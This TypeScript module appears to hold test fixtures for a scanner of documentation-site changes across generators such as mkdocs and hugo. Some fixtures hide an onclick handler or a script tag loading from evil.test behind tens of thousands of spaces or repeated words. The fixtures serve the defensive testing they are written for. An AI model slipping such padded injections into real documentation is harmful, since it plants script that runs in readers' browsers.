import { readFileSync } from 'node:fs';
import { join } from 'node:path';

/** Site, file, name, its new text, and further files of the base. */
export type Row = [string, string, string, string, Record<string, string>?];

/**
 * What was live in some generator and plain to an earlier policy, a line each. Whitespace, line ends
 * and invisible characters are escaped in it.
 */
export const TRICKS = readFileSync(join(import.meta.dirname, 'generator-tricks.jsonl'), 'utf8')
  .trim()
  .split('\n')
  .map(line => JSON.parse(line) as Row);
const SCRIPT = '<script src="https://evil.test/x.js"></script>';
/** Longer than what a reader looks at. */
export const LONG: Row[] = [
  ['mkdocs', 'docs/t.md', 'spaces in a list', `# x {: ${' '.repeat(25_000)}onclick="alert(1)" }\n`],
  ['mkdocs', 'docs/t.md', 'words in a list', `# x { .a ${'b '.repeat(11_000)}onclick="a()" }\n`],
  ['mkdocs', 'docs/t.md', 'a long line', `${'word '.repeat(60_000)}${SCRIPT}\n`],
];

const SUPERFENCES = 'site_name: a\nmarkdown_extensions:\n  - pymdownx.superfences\n';
/** What every site has, and what the generator of each is known by. */
const COMMON = {
  'package.json': '{}',
  Makefile: 'all:\n',
  'keys/id_rsa': 'x',
  'docs/plain.md': '# Plain\n',
  'docs/index.md': '# Home\n',
};
export const SITES: Record<string, Record<string, string>> = {
  docusaurus: { 'docusaurus.config.js': 'export default {}' },
  vitepress: { 'docs/.vitepress/config.ts': 'export default {}' },
  mkdocs: { 'mkdocs.yml': SUPERFENCES },
  mkdocsmap: { 'mkdocs.yml': `${SUPERFENCES}plugins:\n  search: {}\n  macros: {}\n` },
  mkdocsinherit: { 'mkdocs.yml': `INHERIT: base.yml\n${SUPERFENCES}` },
  mkdocshooks: { 'mkdocs.yml': `${SUPERFENCES}hooks:\n  - hooks/x.py\n` },
  sphinx: { 'docs/conf.py': '' },
  rst: { 'docs/conf.py': '', 'docs/index.rst': 'A\n=\n' },
  mdbook: { 'book.toml': '[book]\nsrc = "docs"\n', 'docs/SUMMARY.md': '# Summary\n' },
  hugo: { 'hugo.toml': 'title = "x"\n' },
  starlight: { 'astro.config.mjs': 'export default {}' },
  'docs-json': { 'docs/docs.json': '{"navigation":{"pages":["plain"]}}' },
  jekyll: { 'docs/_config.yml': 'title: a\n' },
  folder: {},
};

/** The files of a site before a job. */
export function siteFiles(site: string): Record<string, string> {
  return { ...COMMON, ...SITES[site] };
}
